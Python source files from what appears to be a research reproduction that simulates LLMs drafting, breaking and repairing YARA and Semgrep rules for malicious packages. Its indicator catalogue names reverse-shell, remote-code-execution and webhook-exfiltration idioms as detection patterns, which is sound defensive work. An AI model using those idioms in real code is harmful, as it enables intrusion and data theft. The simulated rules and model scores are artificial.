MAX_YARA_STRINGS = 8
MAX_SEMGREP_PATTERNS = 6


def _specificity_floor(profile: ModelProfile) -> float:
    """Minimum indicator specificity a profile puts into a rule.

    Disciplined analysts (high string precision) only keep strings that are
    unlikely to appear in benign code; sloppier ones also keep generic idioms
    like ``os.system(`` or ``subprocess.run(`` which later false-positive.
    """
    return 0.62 * profile.string_precision


def rule_name_for(findings: list[BehaviorFinding], kind: str, salt: str) -> str:
    """Derive a stable, descriptive rule identifier."""
    if findings:
        dominant = max(findings, key=lambda f: f.specificity)
        stem = dominant.subcategory
    else:
        stem = "suspicious_package"
    stem = safe_identifier(stem.lower().replace(" ", "_").replace("/", "_"))
    suffix = safe_identifier(salt)[:8]
    if kind == "yara":
        return f"MAL_{stem}_{suffix}"
    return f"detect-{stem.replace('_', '-')}-{suffix}".lower()


def _ordered_findings(findings: list[BehaviorFinding]) -> list[BehaviorFinding]:
    return sorted(findings, key=lambda f: (-f.specificity, f.indicator_key))


# -- YARA -----------------------------------------------------------------------

def synthesize_yara(
    findings: list[BehaviorFinding],
    rule_name: str,
    profile: ModelProfile,
    rng: DeterministicRandom,
    analysis_note: str = "",
) -> str:
    """Draft a YARA rule from findings, applying profile-driven weaknesses."""
    builder = YaraRuleBuilder(rule_name)
    descriptions = sorted({finding.description for finding in findings})[:3]
    builder.meta("description", "; ".join(descriptions) or "suspicious OSS package behaviour")
    builder.meta("author", profile.display_name)
    builder.meta("generator", "RuleLLM")
    if analysis_note:
        builder.meta("analysis", analysis_note[:120])
    if findings:
        builder.tags = sorted({safe_identifier(f.audit_category) for f in findings})[:3]

    specific_count = 0
    seen_values: set[str] = set()
    floor = _specificity_floor(profile)
    usable = [finding for finding in _ordered_findings(findings) if finding.specificity >= floor]
    for finding in usable:
        if builder.string_count >= MAX_YARA_STRINGS:
            break
        indicator = _safe_indicator(finding.indicator_key)
        use_regex = (
            indicator is not None
            and indicator.regex_signature is not None
            and rng.coin(0.3)
        )
        if use_regex:
            value = indicator.regex_signature
            if value not in seen_values:
                builder.regex_string(value)
                seen_values.add(value)
        else:
            for evidence in finding.evidence[:2]:
                if evidence and evidence not in seen_values and builder.string_count < MAX_YARA_STRINGS:
                    builder.text_string(evidence)
                    seen_values.add(evidence)
        if finding.specificity >= 0.75:
            specific_count += 1

    # weakness 1: overly generic strings from a sloppy analyst
    if not rng.coin(profile.string_precision):
        for _ in range(rng.randint(1, 2)):
            bait = rng.choice(list(GENERIC_BAIT_STRINGS))
            if bait not in seen_values:
                builder.text_string(bait)
                seen_values.add(bait)

    # weakness 2: hallucinated indicators that exist in no sample
    if rng.coin(profile.hallucination_rate):
        invented = rng.choice(list(HALLUCINATED_STRINGS))
        if invented not in seen_values:
            builder.text_string(invented)
            seen_values.add(invented)

    if builder.string_count == 0:
        # nothing concrete was extracted -- produce a (useless but valid)
        # hallucinated rule, mirroring the zero-match rules the paper reports
        builder.text_string(rng.choice(list(HALLUCINATED_STRINGS)))

    if specific_count >= 3 and builder.string_count >= 4 and rng.coin(0.45):
        builder.condition_n_of_them(2)
    else:
        builder.condition_any_of_them()
    return builder.to_source()


# -- Semgrep -----------------------------------------------------------------------

def synthesize_semgrep(
    findings: list[BehaviorFinding],
    rule_id: str,
    profile: ModelProfile,
    rng: DeterministicRandom,
) -> str:
    """Draft a Semgrep rule (YAML document) from findings."""
    builder = SemgrepRuleBuilder(rule_id)
    descriptions = sorted({finding.description for finding in findings})[:2]
    builder.set_message("Detected " + ("; ".join(descriptions) or "suspicious package behaviour"))
    builder.meta("generator", "RuleLLM")
    builder.meta("model", profile.display_name)
    categories = sorted({finding.category for finding in findings})
    if categories:
        builder.meta("category", categories[0])
    severity_pool = ("ERROR", "WARNING")
    builder.severity = severity_pool[0] if any(f.specificity > 0.9 for f in findings) else severity_pool[1]

    added_patterns: set[str] = set()
    regex_parts: list[str] = []
    floor = _specificity_floor(profile)
    usable = [finding for finding in _ordered_findings(findings) if finding.specificity >= floor]
    for finding in usable:
        if len(added_patterns) >= MAX_SEMGREP_PATTERNS:
            break
        indicator = _safe_indicator(finding.indicator_key)
        if indicator is not None and indicator.semgrep_pattern:
            if indicator.semgrep_pattern not in added_patterns:
                builder.either_pattern(indicator.semgrep_pattern)
                added_patterns.add(indicator.semgrep_pattern)
        elif indicator is not None:
            regex_parts.append(indicator.regex_signature or _escape_regex(indicator.signature))
        else:
            for evidence in finding.evidence[:1]:
                regex_parts.append(_escape_regex(evidence))

    # weakness: a sloppy analyst writes an overly broad structural pattern
    if not rng.coin(profile.string_precision):
        broad = rng.choice((
            "requests.get($URL, ...)", "os.environ", "subprocess.run($CMD, ...)",
            "base64.b64decode($X)",
        ))
        if broad not in added_patterns:
            builder.either_pattern(broad)
            added_patterns.add(broad)

    if rng.coin(profile.hallucination_rate):
        regex_parts = [_escape_regex(rng.choice(list(HALLUCINATED_STRINGS)))]

    if regex_parts:
        builder.regex("|".join(sorted(set(regex_parts))[:4]))

    if builder.pattern_count == 0:
        builder.regex(_escape_regex(rng.choice(list(HALLUCINATED_STRINGS))))

    return dump_rules_yaml([builder.build()])


# -- merging (refinement stage) ------------------------------------------------------

def merge_yara_sources(
    sources: list[str],
    merged_name: str,
    profile: ModelProfile,
    rng: DeterministicRandom,
) -> str:
    """Merge several coarse YARA rules into one scalable rule (Section IV-B)."""
    from repro.yarax import parse_source  # local import to avoid cycles at module load

    collected: list[tuple[str, str, tuple[str, ...]]] = []  # (kind, value, modifiers)
    descriptions: list[str] = []
    tags: set[str] = set()
    for source in sources:
        try:
            rules = parse_source(source)
        except Exception:
            continue
        for rule in rules:
            description = rule.meta.get("description")
            if isinstance(description, str) and description:
                descriptions.append(description)
            tags.update(rule.tags)
            for definition in rule.strings:
                collected.append((definition.kind, definition.value, definition.modifiers))

    builder = YaraRuleBuilder(merged_name)
    builder.meta("description", "; ".join(sorted(set(descriptions))[:3]) or "merged RuleLLM rule")
    builder.meta("author", profile.display_name)
    builder.meta("generator", "RuleLLM")
    builder.tags = sorted(tags)[:3]

    deduplicate = rng.coin(profile.refine_quality)
    seen: set[tuple[str, str]] = set()
    for kind, value, modifiers in collected:
        if builder.string_count >= MAX_YARA_STRINGS:
            break
        key = (kind, value)
        if deduplicate and key in seen:
            continue
        seen.add(key)
        if kind == "regex":
            builder.regex_string(value)
        elif kind == "hex":
            builder.hex_string(value)
        else:
            builder.text_string(value, nocase="nocase" in modifiers)

    if builder.string_count == 0:
        builder.text_string("malicious")
    if builder.string_count >= 5 and rng.coin(0.4):
        builder.condition_n_of_them(2)
    else:
        builder.condition_any_of_them()
    return builder.to_source()


def merge_semgrep_sources(
    sources: list[str],
    merged_id: str,
    profile: ModelProfile,
    rng: DeterministicRandom,
) -> str:
    """Merge several coarse Semgrep rules into one (Section IV-B)."""
    from repro.semgrepx.loader import load_rules_yaml  # local import to avoid cycles

    builder = SemgrepRuleBuilder(merged_id)
    messages: list[str] = []
    severities: list[str] = []
    patterns: list[str] = []
    regexes: list[str] = []
    for source in sources:
        try:
            rules = load_rules_yaml(source)
        except Exception:
            continue
        for rule in rules:
            messages.append(rule.message)
            severities.append(rule.severity)
            patterns.extend(rule.all_pattern_texts())
            if rule.pattern_regex:
                regexes.append(rule.pattern_regex)

    builder.set_message(messages[0] if messages else "Detected suspicious package behaviour")
    builder.severity = "ERROR" if "ERROR" in severities else "WARNING"
    builder.meta("generator", "RuleLLM")
    builder.meta("model", profile.display_name)

    deduplicate = rng.coin(profile.refine_quality)
    seen: set[str] = set()
    for pattern in patterns:
        if len(seen) >= MAX_SEMGREP_PATTERNS:
            break
        if deduplicate and pattern in seen:
            continue
        if pattern not in seen:
            builder.either_pattern(pattern)
        seen.add(pattern)
    if regexes:
        merged_regex = "|".join(sorted(set(regexes))[:3])
        builder.regex(merged_regex)
    if builder.pattern_count == 0:
        builder.regex("malicious_placeholder_pattern")
    return dump_rules_yaml([builder.build()])


# -- helpers ------------------------------------------------------------------------

def _safe_indicator(key: str):
    try:
        return indicator_by_key(key)
    except KeyError:
        return None


def _escape_regex(text: str) -> str:
    import re as _re

    return _re.escape(text)
