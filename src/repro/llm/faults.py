"""Fault injection and rule repair.

LLMs "introduce errors or hallucinations in the generated outputs" (paper
Section IV-A); the alignment agent exists to repair them.  This module
provides both halves for the simulated provider:

* :class:`FaultInjector` corrupts a syntactically valid rule in the ways the
  paper's Table V enumerates (missing parts, syntax errors, undefined strings
  in conditions, regex issues, invalid fields, encoding problems);
* :class:`RuleRepairer` applies the deterministic fixes a competent model
  would produce when shown the compiler's error message.

Both are driven by the model profile: the syntax-error rate controls how
often faults appear, the fix-success rate controls how often a repair attempt
actually lands.
"""

from __future__ import annotations

import re

from repro.utils.seeding import DeterministicRandom

# -- YARA fault kinds (mirror Table V's instruction list) -----------------------
YARA_FAULTS = (
    "missing_condition",
    "undefined_string",
    "unbalanced_brace",
    "bad_regex",
    "unterminated_string",
    "invalid_meta",
)

SEMGREP_FAULTS = (
    "missing_message",
    "invalid_severity",
    "bad_pattern_syntax",
    "bad_regex",
    "broken_yaml",
)


class FaultInjector:
    """Deterministically corrupt rule text the way a careless LLM would."""

    def __init__(self, rng: DeterministicRandom) -> None:
        self._rng = rng

    # -- YARA ---------------------------------------------------------------
    def corrupt_yara(self, source: str) -> str:
        fault = self._rng.choice(list(YARA_FAULTS))
        return self.apply_yara_fault(source, fault)

    def apply_yara_fault(self, source: str, fault: str) -> str:
        if fault == "missing_condition":
            return re.sub(r"\n\s*condition:\s*\n[^\n]*\n", "\n", source)
        if fault == "undefined_string":
            return re.sub(r"condition:\n(\s*)(.+)", r"condition:\n\1\2 and $missing_str", source, count=1)
        if fault == "unbalanced_brace":
            index = source.rfind("}")
            return source[:index] + source[index + 1 :] if index != -1 else source + "}"
        if fault == "bad_regex":
            if "= /" in source:
                return source.replace("= /", "= /([", 1)
            return re.sub(r'strings:\n', 'strings:\n        $broken = /([A-Z/\n', source, count=1)
        if fault == "unterminated_string":
            match = re.search(r'= "([^"\n]*)"', source)
            if match:
                return source[: match.end() - 1] + source[match.end():]
            return source
        if fault == "invalid_meta":
            return re.sub(r"meta:\n", "meta:\n        severity = high-risk\n", source, count=1)
        raise ValueError(f"unknown YARA fault kind: {fault}")

    # -- Semgrep -------------------------------------------------------------
    def corrupt_semgrep(self, yaml_text: str) -> str:
        fault = self._rng.choice(list(SEMGREP_FAULTS))
        return self.apply_semgrep_fault(yaml_text, fault)

    def apply_semgrep_fault(self, yaml_text: str, fault: str) -> str:
        if fault == "missing_message":
            # drop the message scalar including any folded continuation lines
            return re.sub(r"\n\s*message:[^\n]*(\n\s{4,}[^\n:]*)*", "", yaml_text, count=1)
        if fault == "invalid_severity":
            return re.sub(r"severity:\s*\w+", "severity: CRITICAL", yaml_text, count=1)
        if fault == "bad_pattern_syntax":
            return re.sub(r"pattern: (.+)", r"pattern: \1((", yaml_text, count=1)
        if fault == "bad_regex":
            if "pattern-regex:" in yaml_text:
                return re.sub(r"pattern-regex: (.+)", r"pattern-regex: '[unclosed'", yaml_text, count=1)
            return yaml_text.rstrip() + "\n    pattern-regex: '[unclosed'\n"
        if fault == "broken_yaml":
            return yaml_text.replace("rules:", "rules:\n  - : :", 1)
        raise ValueError(f"unknown Semgrep fault kind: {fault}")


class RuleRepairer:
    """Deterministic error-message-driven repairs (the model's 'fix' skill)."""

    # -- YARA ---------------------------------------------------------------
    @staticmethod
    def repair_yara(source: str, error_message: str) -> str:
        message = error_message.lower()
        repaired = source
        if "undefined string" in message:
            # fall back to the safest condition over the defined strings
            repaired = re.sub(r"condition:\n\s*.+", "condition:\n        any of them", repaired)
        if "missing condition" in message or "expected 'condition'" in message:
            if "condition:" not in repaired:
                closing = repaired.rfind("}")
                insert = "    condition:\n        any of them\n"
                repaired = repaired[:closing] + insert + repaired[closing:]
        if "unterminated string" in message:
            repaired = RuleRepairer._close_unterminated_quotes(repaired)
        if "regular expression" in message or "regex" in message:
            # drop regex strings entirely and rely on the plain strings
            repaired = re.sub(r"\n\s*\$\w+\s*=\s*/[^\n]*", "", repaired)
            if "strings:" in repaired and not re.search(r"\$\w+\s*=", repaired):
                repaired = repaired.replace(
                    "strings:", 'strings:\n        $fallback = "malicious"', 1
                )
        if "expected '}'" in message or "unexpected end of file" in message or "but found" in message:
            repaired = RuleRepairer._balance_braces(repaired)
        if "meta" in message and "invalid" in message:
            repaired = re.sub(r"\n\s*severity = [^\n\"]+", "\n        severity = \"high\"", repaired)
        if "unreferenced string" in message:
            repaired = re.sub(r"condition:\n\s*.+", "condition:\n        any of them", repaired)
        return repaired

    @staticmethod
    def _balance_braces(source: str) -> str:
        opening = source.count("{")
        closing = source.count("}")
        if opening > closing:
            return source.rstrip() + "\n" + "}" * (opening - closing) + "\n"
        if closing > opening:
            extra = closing - opening
            out = source
            for _ in range(extra):
                index = out.rfind("}")
                out = out[:index] + out[index + 1 :]
            return out
        return source

    @staticmethod
    def _close_unterminated_quotes(source: str) -> str:
        lines = []
        for line in source.splitlines():
            if line.count('"') % 2 == 1:
                line = line + '"'
            lines.append(line)
        return "\n".join(lines) + "\n"

    # -- Semgrep -------------------------------------------------------------
    @staticmethod
    def repair_semgrep(yaml_text: str, error_message: str) -> str:
        message = error_message.lower()
        repaired = yaml_text
        if "message" in message and "missing" in message:
            repaired = re.sub(
                r"(\n-\s*id:\s*\S+)",
                r"\1\n  message: Detected suspicious behaviour",
                repaired,
                count=1,
            )
            if "message:" not in repaired:
                repaired = re.sub(
                    r"(\n\s*-\s*id:\s*\S+)",
                    r"\1\n    message: Detected suspicious behaviour",
                    repaired,
                    count=1,
                )
        if "severity" in message and "invalid" in message:
            repaired = re.sub(r"severity:\s*\w+", "severity: WARNING", repaired)
        if "not valid python syntax" in message or "invalid pattern" in message:
            repaired = re.sub(r"\(\(\s*$", "(...)", repaired, flags=re.MULTILINE)
            repaired = repaired.replace("((\n", "(...)\n")
        if "pattern-regex" in message or ("regex" in message and "invalid" in message):
            repaired = re.sub(r"\n\s*pattern-regex: '\[unclosed'", "", repaired)
            repaired = re.sub(r"pattern-regex: '\[([^']*)'", r"pattern-regex: '\\[\1'", repaired)
        if "invalid yaml" in message or "mapping" in message:
            repaired = repaired.replace("rules:\n  - : :", "rules:", 1)
        return repaired
