"""Model capability profiles (paper Table IX).

Each profile parameterises how the simulated provider degrades the perfect
analyst: how many true behaviours it reports (recall), how disciplined its
extracted strings are (string precision -- low precision means generic,
false-positive-prone strings get included), how often it invents indicators
that are not in the sample (hallucination), how often the emitted rule text
has syntax/structure defects, how reliably it repairs a rule given a compiler
error, and how large its context window is.

The values are calibrated so the *relative ordering* of the paper's Table IX
holds: GPT-4o best overall, Claude-3.5 highest recall but lower precision,
GPT-3.5 and Llama-3.1 mid-pack.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class ModelProfile:
    """Capability knobs of one simulated model."""

    name: str
    display_name: str
    context_window: int
    recall: float
    string_precision: float
    hallucination_rate: float
    syntax_error_rate: float
    fix_success_rate: float
    refine_quality: float

    def __post_init__(self) -> None:
        for field_name in ("recall", "string_precision", "hallucination_rate",
                           "syntax_error_rate", "fix_success_rate", "refine_quality"):
            value = getattr(self, field_name)
            if not 0.0 <= value <= 1.0:
                raise ValueError(f"{field_name} must be in [0, 1], got {value}")
        if self.context_window < 256:
            raise ValueError("context_window must be at least 256 tokens")


GPT_4O = ModelProfile(
    name="gpt-4o",
    display_name="GPT-4o",
    context_window=16000,
    recall=0.95,
    string_precision=0.90,
    hallucination_rate=0.05,
    syntax_error_rate=0.15,
    fix_success_rate=0.92,
    refine_quality=0.92,
)

GPT_35_TURBO = ModelProfile(
    name="gpt-3.5-turbo",
    display_name="GPT-3.5 turbo",
    context_window=8000,
    recall=0.72,
    string_precision=0.82,
    hallucination_rate=0.12,
    syntax_error_rate=0.30,
    fix_success_rate=0.75,
    refine_quality=0.75,
)

CLAUDE_35_SONNET = ModelProfile(
    name="claude-3.5-sonnet",
    display_name="Claude-3.5-Sonnet",
    context_window=16000,
    recall=0.985,
    string_precision=0.72,
    hallucination_rate=0.08,
    syntax_error_rate=0.18,
    fix_success_rate=0.88,
    refine_quality=0.85,
)

LLAMA_31_70B = ModelProfile(
    name="llama-3.1-70b",
    display_name="Llama-3.1:70B",
    context_window=8000,
    recall=0.78,
    string_precision=0.68,
    hallucination_rate=0.15,
    syntax_error_rate=0.35,
    fix_success_rate=0.65,
    refine_quality=0.70,
)

#: A hypothetical flawless model, useful for unit tests and upper-bound studies.
ORACLE = ModelProfile(
    name="oracle",
    display_name="Oracle (perfect analyst)",
    context_window=1_000_000,
    recall=1.0,
    string_precision=1.0,
    hallucination_rate=0.0,
    syntax_error_rate=0.0,
    fix_success_rate=1.0,
    refine_quality=1.0,
)

PROFILES: dict[str, ModelProfile] = {
    profile.name: profile
    for profile in (GPT_4O, GPT_35_TURBO, CLAUDE_35_SONNET, LLAMA_31_70B, ORACLE)
}

#: The paper's primary configuration uses GPT-4o.
DEFAULT_PROFILE = GPT_4O


def get_profile(name: str) -> ModelProfile:
    """Look up a profile by name (case-insensitive, tolerant of separators)."""
    key = name.strip().lower().replace("_", "-").replace(" ", "-")
    aliases = {
        "gpt4o": "gpt-4o",
        "gpt-4": "gpt-4o",
        "gpt-35-turbo": "gpt-3.5-turbo",
        "gpt-3.5": "gpt-3.5-turbo",
        "claude": "claude-3.5-sonnet",
        "claude-3.5": "claude-3.5-sonnet",
        "llama": "llama-3.1-70b",
        "llama-3.1": "llama-3.1-70b",
        "llama-3.1:70b": "llama-3.1-70b",
    }
    key = aliases.get(key, key)
    if key not in PROFILES:
        raise KeyError(f"unknown model profile: {name!r} (available: {sorted(PROFILES)})")
    return PROFILES[key]
