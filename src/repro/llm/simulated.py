"""The simulated analyst LLM provider.

``SimulatedAnalystLLM`` implements :class:`repro.llm.base.LLMProvider`: it
accepts a textual prompt, locates the embedded task and payload sections
(:mod:`repro.llm.protocol`), performs the requested analysis or rule
operation with the deterministic analyst machinery, degrades the result
according to its :class:`~repro.llm.profiles.ModelProfile`, and returns a
textual completion.

Determinism: every stochastic decision is seeded from the provider seed, the
model name and a hash of the prompt, so re-running the pipeline reproduces
the same rules, the same faults and therefore the same evaluation numbers.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

from repro.corpus.package import PackageMetadata
from repro.llm import protocol
from repro.llm.analysis import BehaviorFinding, CodeAnalysisReport, CodeAnalyzer
from repro.llm.base import CompletionRequest, LLMResponse, Usage
from repro.llm.faults import FaultInjector, RuleRepairer
from repro.llm.profiles import DEFAULT_PROFILE, ModelProfile
from repro.llm.rule_synthesis import (
    HALLUCINATED_STRINGS,
    merge_semgrep_sources,
    merge_yara_sources,
    rule_name_for,
    synthesize_semgrep,
    synthesize_yara,
)
from repro.llm.tokenizer import count_tokens, truncate_to_tokens
from repro.utils.hashing import stable_digest
from repro.utils.seeding import DeterministicRandom


@dataclass
class ProviderStats:
    """Bookkeeping across a provider's lifetime (inspected by experiments)."""

    requests: int = 0
    truncated_requests: int = 0
    usage: Usage = field(default_factory=Usage)
    tasks: dict[str, int] = field(default_factory=dict)

    def record(self, task: str, usage: Usage, truncated: bool) -> None:
        self.requests += 1
        if truncated:
            self.truncated_requests += 1
        self.usage = self.usage.add(usage)
        self.tasks[task] = self.tasks.get(task, 0) + 1


class SimulatedAnalystLLM:
    """Deterministic, profile-degraded stand-in for a commercial LLM."""

    def __init__(
        self,
        profile: ModelProfile = DEFAULT_PROFILE,
        seed: int = 20250424,
        analyzer: CodeAnalyzer | None = None,
    ) -> None:
        self.profile = profile
        self.seed = seed
        self.analyzer = analyzer or CodeAnalyzer()
        self.stats = ProviderStats()

    # -- LLMProvider protocol ---------------------------------------------------
    @property
    def model_name(self) -> str:
        return self.profile.name

    @property
    def context_window(self) -> int:
        return self.profile.context_window

    def complete(self, request: CompletionRequest) -> LLMResponse:
        system_text = request.system_text
        user_text, truncated = truncate_to_tokens(
            request.user_text, max(self.profile.context_window - count_tokens(system_text), 256)
        )
        sections = protocol.parse_sections(system_text + "\n" + user_text)
        task = protocol.first_section(sections, "TASK", default=request.tag or protocol.TASK_CRAFT)
        rule_format = protocol.first_section(sections, "FORMAT", default=protocol.FORMAT_YARA)
        rng = DeterministicRandom(
            self.seed, self.profile.name, task, stable_digest(request.full_text)[:24]
        )

        if task == protocol.TASK_REFINE:
            completion = self._refine(sections, rule_format, rng)
        elif task == protocol.TASK_FIX:
            completion = self._fix(sections, rule_format, rng)
        else:  # craft and direct share the analyse-then-draft path
            completion = self._craft(sections, rule_format, rng, truncated,
                                      direct=(task == protocol.TASK_DIRECT))

        usage = Usage(prompt_tokens=count_tokens(request.full_text),
                      completion_tokens=count_tokens(completion))
        self.stats.record(task, usage, truncated)
        return LLMResponse(text=completion, model=self.model_name, usage=usage,
                           truncated_prompt=truncated)

    # -- crafting ------------------------------------------------------------------
    def _craft(self, sections: dict[str, list[str]], rule_format: str,
               rng: DeterministicRandom, truncated: bool, direct: bool) -> str:
        samples = protocol.sections_with_prefix(sections, "SAMPLE")
        metadata_bodies = protocol.sections_with_prefix(sections, "METADATA")

        report = self.analyzer.analyze_units(samples) if samples else CodeAnalysisReport()
        for body in metadata_bodies:
            metadata = self._parse_metadata(body)
            if metadata is not None:
                report = report.merge(self.analyzer.analyze_metadata(metadata))
        report.truncated = truncated

        findings = self._apply_recall(report.findings, rng)
        findings = self._apply_hallucination(findings, rng)
        report = CodeAnalysisReport(
            findings=findings,
            metadata_findings=report.metadata_findings,
            analyzed_units=report.analyzed_units,
            truncated=truncated,
        )

        salt = stable_digest("|".join(f.indicator_key for f in findings) or "empty")[:8]
        if rule_format == protocol.FORMAT_SEMGREP:
            rule_text = synthesize_semgrep(findings, rule_name_for(findings, "semgrep", salt),
                                           self.profile, rng)
        else:
            rule_text = synthesize_yara(findings, rule_name_for(findings, "yara", salt),
                                        self.profile, rng)

        error_rate = self.profile.syntax_error_rate * (1.6 if direct else 1.0)
        if rng.coin(min(error_rate, 0.95)):
            rule_text = self._corrupt(rule_text, rule_format, rng)
        return protocol.render_completion(report.to_text(), rule_text)

    # -- refining -------------------------------------------------------------------
    def _refine(self, sections: dict[str, list[str]], rule_format: str,
                rng: DeterministicRandom) -> str:
        rules = protocol.sections_with_prefix(sections, "RULE")
        analysis = protocol.first_section(sections, "ANALYSIS")
        salt = stable_digest("".join(rules) or "empty")[:8]
        if rule_format == protocol.FORMAT_SEMGREP:
            merged = merge_semgrep_sources(rules, f"detect-merged-{salt}", self.profile, rng)
        else:
            merged = merge_yara_sources(rules, f"MAL_merged_{salt}", self.profile, rng)
        if rng.coin(self.profile.syntax_error_rate * 0.6):
            merged = self._corrupt(merged, rule_format, rng)
        return protocol.render_completion(analysis, merged)

    # -- fixing ----------------------------------------------------------------------
    def _fix(self, sections: dict[str, list[str]], rule_format: str,
             rng: DeterministicRandom) -> str:
        rules = protocol.sections_with_prefix(sections, "RULE")
        errors = protocol.sections_with_prefix(sections, "ERROR")
        rule_text = rules[-1] if rules else ""
        error_text = "\n".join(errors)
        if not rule_text:
            return protocol.render_completion("", "")
        if rng.coin(self.profile.fix_success_rate):
            if rule_format == protocol.FORMAT_SEMGREP:
                repaired = RuleRepairer.repair_semgrep(rule_text, error_text)
            else:
                repaired = RuleRepairer.repair_yara(rule_text, error_text)
        else:
            # a failed fix attempt returns the rule essentially unchanged
            repaired = rule_text
        return protocol.render_completion("", repaired)

    # -- profile-driven degradations -----------------------------------------------------
    def _apply_recall(self, findings: list[BehaviorFinding],
                      rng: DeterministicRandom) -> list[BehaviorFinding]:
        if self.profile.recall >= 1.0:
            return list(findings)
        kept = [finding for finding in findings if rng.coin(self.profile.recall)]
        if findings and not kept:
            # even a weak model usually reports the most blatant behaviour
            kept = [max(findings, key=lambda f: f.specificity)] if rng.coin(0.5) else []
        return kept

    def _apply_hallucination(self, findings: list[BehaviorFinding],
                             rng: DeterministicRandom) -> list[BehaviorFinding]:
        if rng.coin(self.profile.hallucination_rate):
            invented = rng.choice(list(HALLUCINATED_STRINGS))
            findings = list(findings) + [
                BehaviorFinding(
                    indicator_key="hallucinated_indicator",
                    audit_category="ioc",
                    category="Other Rules",
                    subcategory="Unknown or Undetermined",
                    description="pattern resembling a known attack framework",
                    evidence=[invented],
                    specificity=0.99,
                    matched_text=[invented],
                )
            ]
        return findings

    def _corrupt(self, rule_text: str, rule_format: str, rng: DeterministicRandom) -> str:
        injector = FaultInjector(rng)
        if rule_format == protocol.FORMAT_SEMGREP:
            return injector.corrupt_semgrep(rule_text)
        return injector.corrupt_yara(rule_text)

    # -- helpers ---------------------------------------------------------------------------
    @staticmethod
    def _parse_metadata(body: str) -> PackageMetadata | None:
        try:
            json.loads(body)
        except (ValueError, TypeError):
            return None
        try:
            return PackageMetadata.from_json(body)
        except (KeyError, TypeError, ValueError):
            return None
