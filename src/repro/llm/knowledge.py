"""The simulated LLM's security knowledge: an indicator catalogue.

A real LLM recognises malicious-code idioms because it has seen them during
pre-training.  The simulated analyst gets the same ability from this
catalogue: each :class:`IndicatorPattern` describes one idiom -- how to spot
it in source text (a regex), what canonical string a YARA rule should carry,
what Semgrep pattern expresses it structurally, which Table II audit category
and Table XII taxonomy subcategory it belongs to, and how *specific* it is
(how unlikely the idiom is to appear in benign code).

Low-specificity indicators (plain ``subprocess`` use, ``os.environ`` access,
``base64`` decoding) are deliberately present: weaker model profiles include
them in rules, which is exactly where false positives come from.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

# Table II audit categories for code.
IOC = "ioc"
FILE_OPERATION = "file"
NETWORK = "network"
ENCRYPTION = "encryption"
PRIVILEGE = "privilege"
ANTI_DEBUG = "anti_debug"

AUDIT_CATEGORIES = (IOC, FILE_OPERATION, NETWORK, ENCRYPTION, PRIVILEGE, ANTI_DEBUG)


@dataclass(frozen=True)
class IndicatorPattern:
    """One recognisable malicious-code idiom."""

    key: str
    audit_category: str
    subcategory: str
    description: str
    pattern: str
    signature: str
    specificity: float
    semgrep_pattern: str | None = None
    regex_signature: str | None = None

    def __post_init__(self) -> None:
        if self.audit_category not in AUDIT_CATEGORIES:
            raise ValueError(f"unknown audit category: {self.audit_category}")
        if not 0.0 <= self.specificity <= 1.0:
            raise ValueError("specificity must be in [0, 1]")
        re.compile(self.pattern)  # fail fast on typos

    @property
    def compiled(self) -> re.Pattern[str]:
        return re.compile(self.pattern)


INDICATOR_CATALOG: tuple[IndicatorPattern, ...] = (
    # -- IOC ---------------------------------------------------------------------
    IndicatorPattern(
        key="ioc_raw_ip_endpoint",
        audit_category=IOC,
        subcategory="C2 Communication",
        description="Hard-coded raw IP address used as a network endpoint",
        pattern=r"[\"'](?:\d{1,3}\.){3}\d{1,3}[\"']",
        signature='"45.137.21.9"',
        regex_signature=r"[\"'](\d{1,3}\.){3}\d{1,3}[\"']",
        specificity=0.92,
        semgrep_pattern=None,
    ),
    IndicatorPattern(
        key="ioc_suspicious_domain",
        audit_category=IOC,
        subcategory="C2 Communication",
        description="Contact with a suspicious distribution / telemetry domain",
        pattern=r"(pythonhosted\.cc|pypi-mirror\.top|telemetry-sync\.xyz|pkg-install\.ru|devops-metrics\.pw|wheel-cache\.io|pip-analytics\.cn|package-stats\.su)",
        signature="pypi-mirror.top",
        regex_signature=r"(pythonhosted\.cc|pypi-mirror\.top|telemetry-sync\.xyz|pkg-install\.ru|devops-metrics\.pw|wheel-cache\.io|pip-analytics\.cn|package-stats\.su)",
        specificity=0.97,
    ),
    IndicatorPattern(
        key="ioc_paste_service",
        audit_category=IOC,
        subcategory="Malicious Downloads",
        description="Fetching content from a paste service",
        pattern=r"(pastebin\.com/raw|paste\.ee/r/|rentry\.co/)",
        signature="pastebin.com/raw",
        specificity=0.9,
    ),
    # -- network -------------------------------------------------------------------
    IndicatorPattern(
        key="net_socket_connect",
        audit_category=NETWORK,
        subcategory="C2 Communication",
        description="Raw TCP socket connection to a remote host",
        pattern=r"socket\.socket\(socket\.AF_INET",
        signature="socket.socket(socket.AF_INET",
        specificity=0.7,
        semgrep_pattern="socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
    ),
    IndicatorPattern(
        key="net_reverse_shell_dup2",
        audit_category=NETWORK,
        subcategory="Backdoor Families",
        description="File-descriptor duplication onto a socket (reverse shell)",
        pattern=r"os\.dup2\(\s*s\.fileno\(\)",
        signature="os.dup2(s.fileno()",
        specificity=0.99,
        semgrep_pattern="os.dup2($S.fileno(), $FD)",
    ),
    IndicatorPattern(
        key="net_discord_webhook",
        audit_category=NETWORK,
        subcategory="Messaging Platform Abuse",
        description="Exfiltration through a Discord webhook",
        pattern=r"discord(?:app)?\.com/api/webhooks",
        signature="discord.com/api/webhooks",
        specificity=0.97,
        semgrep_pattern='requests.post("$URL", ...)',
    ),
    IndicatorPattern(
        key="net_telegram_bot_api",
        audit_category=NETWORK,
        subcategory="Messaging Platform Abuse",
        description="Exfiltration through the Telegram bot API",
        pattern=r"api\.telegram\.org/bot",
        signature="api.telegram.org/bot",
        specificity=0.95,
    ),
    IndicatorPattern(
        key="net_urlretrieve_exec",
        audit_category=NETWORK,
        subcategory="Malicious Downloads",
        description="Downloading a second-stage payload to disk",
        pattern=r"urllib\.request\.urlretrieve\(",
        signature="urllib.request.urlretrieve(",
        specificity=0.75,
        semgrep_pattern="urllib.request.urlretrieve($URL, $PATH)",
    ),
    IndicatorPattern(
        key="net_exec_remote_code",
        audit_category=NETWORK,
        subcategory="Script Injection",
        description="Executing code fetched over the network",
        pattern=r"exec\((?:compile\()?(?:urllib\.request\.urlopen|requests\.get)",
        signature="exec(urllib.request.urlopen(",
        regex_signature=r"exec\((compile\()?(urllib\.request\.urlopen|requests\.get)",
        specificity=0.99,
